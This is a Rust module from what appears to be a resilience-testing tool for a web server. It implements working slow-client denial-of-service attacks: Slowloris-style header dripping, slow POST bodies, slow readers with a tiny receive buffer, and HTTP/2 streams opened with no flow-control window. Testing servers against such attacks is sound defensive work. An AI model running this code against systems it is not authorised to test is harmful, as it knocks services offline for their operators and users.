//! Clients that take their time: each costs the other side a connection, and must not cost it more.

use std::thread;
use std::time::Duration;

use super::{Attacker, Pace};
use crate::link::Link;
use crate::wire::{self, END_HEADERS, END_STREAM, HEADERS};

const HEADS: usize = 5_000;
/// A handshake is dear to the attacker, too.
const HEADS_OVER_TLS: usize = 1_000;
const BODIES: usize = 500;
const READERS: usize = 100;
const LINKS_WITHOUT_WINDOW: usize = 10;
const STREAMS_EACH: u32 = 100;
/// Of a second: in each, some of the connections are sent something.
const PARTS: u32 = 100;
/// Room for what comes: the smallest that the system gives.
const LITTLE_ROOM: usize = 2_048;
/// The path of what reads its bodies to their ends.
pub const FORM: &str = "/form";
/// The path of a large answer.
const LARGE: &str = "/large";

/// Opens `count` connections, each with `first`, and sends `drip` to each once a second, one after the other. What is
/// ended is opened again.
fn keep(attacker: &mut Attacker, count: usize, rate: u32, first: &[u8], drip: &[u8]) -> Vec<Link> {
    let (mut links, mut opening, mut dripping) = (Vec::new(), Pace::of(rate), Pace::of(PARTS));
    let mut part = 0;
    while !attacker.is_over() {
        while links.len() < count && opening.is_due() && !attacker.is_over() {
            let Some(mut link) = attacker.open(None) else { continue };
            link.send(first, attacker.until);
            links.push(link);
        }
        if dripping.is_due() {
            let links_of_part = count.div_ceil(PARTS as usize);
            for link in links.iter_mut().skip(part * links_of_part).take(links_of_part) {
                link.send(drip, attacker.until);
                link.receive();
                attacker.count_answers(link);
            }
            part = (part + 1) % PARTS as usize;
            let before = links.len();
            links.retain(|link| !link.has_ended);
            attacker.count("ended", (before - links.len()) as u64);
        }
        thread::sleep(Duration::from_millis(1));
    }
    links
}

pub fn heads(attacker: &mut Attacker) -> Vec<Link> {
    let first = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: ", attacker.host);
    let (count, rate) = if attacker.tls.is_some() { (HEADS_OVER_TLS, 250) } else { (HEADS, 2_500) };
    keep(attacker, count, rate, first.as_bytes(), b"x")
}

pub fn bodies(attacker: &mut Attacker) -> Vec<Link> {
    let first = format!("POST {FORM} HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", attacker.host);
    keep(attacker, BODIES, 250, first.as_bytes(), b"x")
}

pub fn readers(attacker: &mut Attacker) -> Vec<Link> {
    let request = format!("GET {LARGE} HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.host);
    let (mut links, mut opening) = (Vec::new(), Pace::of(20));
    while !attacker.is_over() {
        opening.next();
        if links.len() < READERS
            && let Some(mut link) = attacker.open(Some(LITTLE_ROOM))
        {
            link.send(request.as_bytes(), attacker.until);
            links.push(link);
        }
    }
    links
}

pub fn no_window(attacker: &mut Attacker) -> Vec<Link> {
    let request = wire::request("GET", &attacker.host, LARGE);
    let (mut links, mut opening) = (Vec::new(), Pace::of(2));
    while !attacker.is_over() {
        opening.next();
        if links.len() < LINKS_WITHOUT_WINDOW
            && let Some(mut link) = attacker.open(None)
        {
            let mut bytes = wire::hello(&wire::NO_WINDOW);
            for number in 0..STREAMS_EACH {
                bytes.extend(wire::frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &request));
            }
            link.send(&bytes, attacker.until);
            attacker.count("streams", STREAMS_EACH.into());
            links.push(link);
        }
        for link in &mut links {
            super::frames::look(attacker, link);
        }
    }
    links
}
